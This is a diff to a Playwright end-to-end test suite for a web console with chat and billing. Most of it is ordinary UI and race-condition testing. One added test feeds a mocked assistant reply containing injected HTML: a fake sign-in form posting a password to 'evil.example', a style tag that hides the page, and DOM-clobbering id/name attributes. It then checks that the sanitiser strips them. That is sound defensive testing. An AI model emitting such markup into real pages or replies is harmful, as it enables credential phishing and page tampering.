@@ -221,10 +221,23 @@ def test_chat_streams_markdown_shows_cost_and_stops(browser: Browser, world: Wor
     expect(page.locator(".msg.assistant").last.locator(".meta")).to_contain_text("cost", timeout=20_000)
     assert page.evaluate("document.body.dataset.pwned") is None
     assert page.locator(".msg.assistant .bubble script, .msg.assistant .bubble img[onerror]").count() == 0
+    # Nor a form to phish with, a style to restyle the page, or an id/name to clobber its own.
+    world.mock.script(tag, ok(content='<form action="https://evil.example/"><input name="password"'
+                                      ' placeholder="Password"><button>Sign in</button></form>'
+                                      '<style>body { display: none }</style>'
+                                      '<p id="balance" name="csrf" style="color: red">still here</p>'))
+    page.fill("#prompt", "phish me")
+    page.press("#prompt", "Enter")
+    phished = page.locator(".msg.assistant").last
+    expect(phished.locator(".meta")).to_contain_text("cost", timeout=20_000)
+    expect(phished.locator(".bubble")).to_contain_text("still here")
+    assert phished.locator(".bubble form, .bubble input, .bubble button, .bubble style").count() == 0
+    assert phished.locator(".bubble [id], .bubble [name], .bubble [style]").count() == 0
+    assert page.locator("#balance").count() == 1 and page.evaluate("getComputedStyle(document.body).display") != "none"
 
     # Conversations are kept in the browser: both still there after a reload.
     page.reload()
-    expect(page.locator(".conv")).to_have_count(2)
+    expect(page.locator(".conv")).to_have_count(2)  # the sanitising checks share the second
     page.locator(".conv a", has_text="Show **bold**").click()
     expect(page.locator(".msg")).to_have_count(4)
     expect(page.locator(".msg.assistant .bubble pre code")).to_contain_text("print('hi')")
@@ -525,4 +538,42 @@ def test_sign_up_see_prices_top_up_with_demo_and_review_the_order(browser: Brows
     expect(page.locator("#order-notes-body")).to_contain_text("credited")
     shoot(page, "ops-orders")
     assert world.admin("GET", "/admin/v1/orders?review=true&provider=demo&limit=500")["data"][0]["id"] == order_id
+
+
+def test_ops_users_list_keeps_the_latest_search_and_typed_amounts(browser: Browser, world: World) -> None:
+    """The first list of users arriving after a search must not replace the search's rows, nor the
+    amount the operator is typing (test_operator_adds_channel_and_code_user_redeems once flaked so)."""
+    op = ConsoleUser(world.url).register()
+    world.admin("PUT", f"/admin/v1/users/{op.user_id}/role", {"role": "operator"})
+    customer = ConsoleUser(world.url).register()
+    ctx = context(browser, DESKTOP, world.url)
+    page = ctx.new_page()
+    page.goto("/console")
+    sign_in(page, op.email)
+    first_list = re.compile(r"/admin/v1/users\?q=&limit=100$")
+    held: list = []
+    page.route(first_list, lambda route: held.append(route))  # the first list is slow to come
+    page.goto("/ops#users")
+    page.wait_for_function("document.querySelector('#user-query') !== null")
+    assert len(held) == 1
+    page.fill("#user-query", customer.email)
+    page.click("#user-search button[type=submit]")
+    row = page.locator(f'#users-body tr[data-user-id="{customer.user_id}"]')
+    expect(row).to_contain_text(customer.email)
+    row.locator(".topup-amount").fill("7")
+    idle = page.locator('#users-body[aria-busy="false"]')  # no refill out
+    expect(idle).to_have_count(0)
+    held[0].continue_()  # the first list arrives at last: too late to count
+    expect(idle).to_have_count(1)
+    page.unroute(first_list)
+    expect(page.locator("#users-body tr")).to_have_count(1)
+    expect(row.locator(".topup-amount")).to_have_value("7")
+    # A refill of the same search keeps what was typed, too.
+    page.click("#user-search button[type=submit]")
+    expect(idle).to_have_count(1)
+    expect(row.locator(".topup-amount")).to_have_value("7")
+    row.get_by_role("button", name="Add").click()
+    expect(page.locator("#users-message")).to_contain_text("balance 107.00")
+    expect(row.locator(".topup-amount")).to_have_value("")
+    assert world.balance(customer.user_id) == 107
     ctx.close()
